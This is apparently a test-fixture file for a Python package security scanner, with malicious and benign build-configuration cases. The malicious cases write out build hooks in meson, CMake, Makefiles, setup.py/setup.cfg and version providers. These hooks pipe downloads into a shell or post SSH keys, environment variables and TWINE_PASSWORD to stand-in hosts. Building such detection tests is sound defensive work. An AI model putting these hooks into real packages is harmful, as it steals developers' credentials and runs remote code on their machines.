"""What pip and build backends run besides setup.py: native build files (meson, CMake,
make), version providers that execute code, declarative cmdclass in setup.cfg."""

from __future__ import annotations

from techniques import Case

STEAL_FN = (
    "import os, urllib.request\n\n\n"
    "def {name}():\n"
    "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "    urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n"
    "    return '1.0'\n"
)

CASES = [
    Case("meson.build runs a download-and-run command at build time", "mesonfetch", {
        "pyproject.toml": ("[build-system]\nrequires = ['meson-python']\n"
                           "build-backend = 'mesonpy'\n\n"
                           "[project]\nname = 'mesonfetch'\nversion = '1.0'\n"),
        "meson.build": (
            "project('mesonfetch', 'c', version: '1.0')\n"
            "py = import('python').find_installation()\n"
            "run_command('sh', '-c', 'curl -fsSL https://b.x.invalid/setup.sh | sh', "
            "check: false)\n"
            "py.install_sources('mesonfetch/__init__.py', subdir: 'mesonfetch')\n"
        ),
        "mesonfetch/__init__.py": "",
    }, "malicious", ("PV111",)),
    Case("CMakeLists.txt posts the SSH key during a scikit-build-core build", "cmakesteal", {
        "pyproject.toml": ("[build-system]\nrequires = ['scikit-build-core']\n"
                           "build-backend = 'scikit_build_core.build'\n\n"
                           "[project]\nname = 'cmakesteal'\nversion = '1.0'\n"),
        "CMakeLists.txt": (
            "cmake_minimum_required(VERSION 3.15)\nproject(cmakesteal LANGUAGES C)\n"
            "execute_process(COMMAND curl -s -F \"k=@$ENV{HOME}/.ssh/id_rsa\" "
            "https://k.x.invalid/u OUTPUT_QUIET ERROR_QUIET)\n"
            "install(DIRECTORY cmakesteal DESTINATION .)\n"
        ),
        "cmakesteal/__init__.py": "",
    }, "malicious", ("PV111",)),
    Case("setup.py runs make; the Makefile fetches and runs a script", "makefetch", {
        "setup.py": (
            "import subprocess\nfrom setuptools import setup\n"
            "from setuptools.command.build_py import build_py\n\n\n"
            "class Build(build_py):\n    def run(self):\n"
            "        subprocess.check_call(['make', '-C', 'native'])\n"
            "        super().run()\n\n\n"
            "setup(name='makefetch', version='1.0', packages=['makefetch'], "
            "cmdclass={'build_py': Build})\n"
        ),
        "native/Makefile": (
            "all: lib\n\nlib:\n\twget -qO- https://b.x.invalid/i.sh | bash\n"
            "\t$(CC) -shared -o libx.so x.c\n"
        ),
        "makefetch/__init__.py": "",
    }, "malicious", ("PV111",)),
    Case("hatch version source 'code' runs a module that steals", "hatchver", {
        "pyproject.toml": ("[build-system]\nrequires = ['hatchling']\n"
                           "build-backend = 'hatchling.build'\n\n"
                           "[project]\nname = 'hatchver'\ndynamic = ['version']\n\n"
                           "[tool.hatch.version]\nsource = 'code'\n"
                           "path = 'tools/version_info.py'\n"),
        "tools/version_info.py": STEAL_FN.format(name="_v") + "\n__version__ = _v()\n",
        "hatchver/__init__.py": "",
    }, "malicious", ("PV303",)),
    Case("pdm version source 'call' runs a getter that steals", "pdmcall", {
        "pyproject.toml": ("[build-system]\nrequires = ['pdm-backend']\n"
                           "build-backend = 'pdm.backend'\n\n"
                           "[project]\nname = 'pdmcall'\ndynamic = ['version']\n\n"
                           "[tool.pdm.version]\nsource = 'call'\n"
                           "getter = 'build_support.ver:get_version'\n"),
        "build_support/__init__.py": "",
        "build_support/ver.py": STEAL_FN.format(name="get_version"),
        "pdmcall/__init__.py": "",
    }, "malicious", ("PV303",)),
    Case("setup.cfg declares a cmdclass whose run steals", "cfgcmd", {
        "setup.py": "from setuptools import setup\n\nsetup()\n",
        "setup.cfg": ("[metadata]\nname = cfgcmd\nversion = 1.0\n\n[options]\n"
                      "packages = cfgcmd\ncmdclass =\n"
                      "    build_py = buildtools.cmds.BuildPy\n"),
        "buildtools/__init__.py": "",
        "buildtools/cmds.py": (
            "import os, urllib.request\nfrom setuptools.command.build_py import build_py\n\n\n"
            "class BuildPy(build_py):\n    def run(self):\n"
            "        urllib.request.urlopen('https://c.x.invalid/', data=repr("
            "dict(os.environ)).encode())\n        super().run()\n"
        ),
        "cfgcmd/__init__.py": "",
    }, "malicious", ("PV303",)),
    Case("setup.py runs a helper script in a child interpreter", "childpy", {
        "setup.py": ("import subprocess, sys\nfrom setuptools import setup\n\n"
                     "subprocess.check_call([sys.executable, 'scripts/prebuild.py'])\n"
                     "setup(name='childpy', version='1.0')\n"),
        "scripts/prebuild.py": STEAL_FN.format(name="_go") + "\n_go()\n",
    }, "malicious", ("PV303",)),
    Case("setup.py runs a shell script that pipes a download into sh", "postsh", {
        "setup.py": ("import subprocess\nfrom setuptools import setup\n\n"
                     "subprocess.call(['bash', 'tools/post_install.sh'])\n"
                     "setup(name='postsh', version='1.0')\n"),
        "tools/post_install.sh": "#!/bin/sh\nset -e\ncurl -s https://x.invalid/s.sh | sh\n",
    }, "malicious", ("PV111",)),
    Case("CMake keeps the key path in a variable and posts it", "cmakevar", {
        "pyproject.toml": ("[build-system]\nrequires = ['scikit-build-core']\n"
                           "build-backend = 'scikit_build_core.build'\n"),
        "CMakeLists.txt": ('cmake_minimum_required(VERSION 3.15)\nproject(cmakevar C)\n'
                           'set(K "$ENV{HOME}/.ssh/id_rsa")\n'
                           'execute_process(COMMAND curl -s -F "k=@${K}" https://k.x.invalid/u)\n'),
    }, "malicious", ("PV111",)),
    Case("setup.py imports a cmdclass whose finalize_options steals", "importedcmd", {
        "setup.py": ("from setuptools import setup\nfrom build_helpers.cmds import Build\n\n"
                     "setup(name='importedcmd', version='1.0', cmdclass={'build_py': Build})\n"),
        "build_helpers/__init__.py": "",
        "build_helpers/cmds.py": (
            "import os, urllib.request\nfrom setuptools.command.build_py import build_py\n\n\n"
            "class Build(build_py):\n    def finalize_options(self):\n"
            "        urllib.request.urlopen('https://c.x.invalid/', data=repr("
            "dict(os.environ)).encode())\n        super().finalize_options()\n"),
    }, "malicious", ("PV303",)),
    Case("setup.py passes a distclass whose run_commands steals", "distclass", {
        "setup.py": ("from setuptools import setup\nfrom helpers.dist import MyDist\n\n"
                     "setup(name='distclass', version='1.0', distclass=MyDist)\n"),
        "helpers/__init__.py": "",
        "helpers/dist.py": (
            "import os, urllib.request\nfrom setuptools import Distribution\n\n\n"
            "class MyDist(Distribution):\n    def run_commands(self):\n"
            "        tok = os.environ.get('TWINE_PASSWORD', '')\n"
            "        urllib.request.urlopen('https://d.x.invalid/?t=' + tok)\n"
            "        super().run_commands()\n"),
    }, "malicious", ("PV303",)),
    Case("build requirement from a direct URL on an unknown host", "buildurl", {
        "pyproject.toml": ("[build-system]\nrequires = ['setuptools', "
                           "'helper @ https://x.invalid/helper-1.0-py3-none-any.whl']\n"
                           "build-backend = 'setuptools.build_meta'\n\n"
                           "[project]\nname = 'buildurl'\nversion = '1.0'\n"),
        "buildurl/__init__.py": "",
    }, "suspicious", ("PV515",)),
    Case("build requirement from a git URL on a raw IP", "buildvcs", {
        "pyproject.toml": ("[build-system]\nrequires = ['setuptools', "
                           "'helper @ git+https://203.0.113.9/helper.git@main']\n"
                           "build-backend = 'setuptools.build_meta'\n\n"
                           "[project]\nname = 'buildvcs'\nversion = '1.0'\n"),
        "buildvcs/__init__.py": "",
    }, "malicious", ("PV516",)),
    # benign look-alikes
    Case("meson.build asking git for the version and finding the compiler", "mesonok", {
        "pyproject.toml": ("[build-system]\nrequires = ['meson-python']\n"
                           "build-backend = 'mesonpy'\n\n"
                           "[project]\nname = 'mesonok'\nversion = '1.0'\n"),
        "meson.build": (
            "project('mesonok', 'c', version: run_command('git', 'describe', '--tags', "
            "check: false).stdout().strip())\n"
            "cc = meson.get_compiler('c')\n"
            "r = run_command('python3', '-c', 'import numpy; print(numpy.get_include())', "
            "check: true)\n"
            "py = import('python').find_installation()\n"
            "py.extension_module('_core', 'src/core.c', install: true)\n"
        ),
        "mesonok/__init__.py": "",
    }, "benign"),
    Case("CMake FetchContent of sources from GitHub, curl in a comment", "cmakefetchok", {
        "pyproject.toml": ("[build-system]\nrequires = ['scikit-build-core']\n"
                           "build-backend = 'scikit_build_core.build'\n\n"
                           "[project]\nname = 'cmakefetchok'\nversion = '1.0'\n"),
        "CMakeLists.txt": (
            "cmake_minimum_required(VERSION 3.15)\nproject(cmakefetchok LANGUAGES CXX)\n"
            "# Developers: curl -sSL https://example.org/setup.sh | sh sets up the tools.\n"
            "include(FetchContent)\n"
            "FetchContent_Declare(pybind11 GIT_REPOSITORY "
            "https://github.com/pybind/pybind11 GIT_TAG v2.13.6)\n"
            "FetchContent_MakeAvailable(pybind11)\n"
            "execute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REV)\n"
            "pybind11_add_module(_core src/core.cpp)\n"
        ),
        "cmakefetchok/__init__.py": "",
    }, "benign"),
    Case("hatch version from code that only sets __version__", "hatchverok", {
        "pyproject.toml": ("[build-system]\nrequires = ['hatchling']\n"
                           "build-backend = 'hatchling.build'\n\n"
                           "[project]\nname = 'hatchverok'\ndynamic = ['version']\n\n"
                           "[tool.hatch.version]\nsource = 'code'\npath = 'tools/ver.py'\n"),
        "tools/ver.py": ("import os\n\n__version__ = os.environ.get('HATCHVEROK_VERSION', "
                         "'1.0')\n"),
        "hatchverok/__init__.py": "",
    }, "benign"),
    Case("setup.cfg cmdclass that cythonizes", "cfgcython", {
        "setup.py": "from setuptools import setup\n\nsetup()\n",
        "setup.cfg": ("[metadata]\nname = cfgcython\nversion = 1.0\n\n[options]\n"
                      "packages = cfgcython\ncmdclass =\n"
                      "    build_ext = buildtools.ext.BuildExt\n"),
        "buildtools/__init__.py": "",
        "buildtools/ext.py": (
            "import subprocess, sys\nfrom setuptools.command.build_ext import build_ext\n\n\n"
            "class BuildExt(build_ext):\n    def run(self):\n"
            "        subprocess.check_call([sys.executable, '-m', 'cython', "
            "'cfgcython/_speed.pyx'])\n        super().run()\n"
        ),
        "cfgcython/__init__.py": "",
    }, "benign"),
    Case("setup.py runs a code generator and ./configure", "codegen", {
        "setup.py": ("import subprocess, sys\nfrom setuptools import setup\n\n"
                     "subprocess.check_call([sys.executable, 'tools/gen_tables.py'])\n"
                     "subprocess.check_call(['sh', 'configure', '--prefix=/usr'])\n"
                     "setup(name='codegen', version='1.0', packages=['codegen'])\n"),
        "tools/gen_tables.py": ("import json, os\n\nTABLE = {i: i * i for i in range(256)}\n"
                                "with open(os.path.join('codegen', '_tables.py'), 'w') as fh:\n"
                                "    fh.write('TABLE = ' + json.dumps(TABLE))\n"),
        "configure": ("#!/bin/sh\n# Download the latest with: curl -sSL https://x.invalid/c | sh\n"
                      "CC=${CC:-cc}\necho \"using $CC\"\n$CC -o conftest conftest.c || exit 1\n"),
        "codegen/__init__.py": "",
    }, "benign"),
]
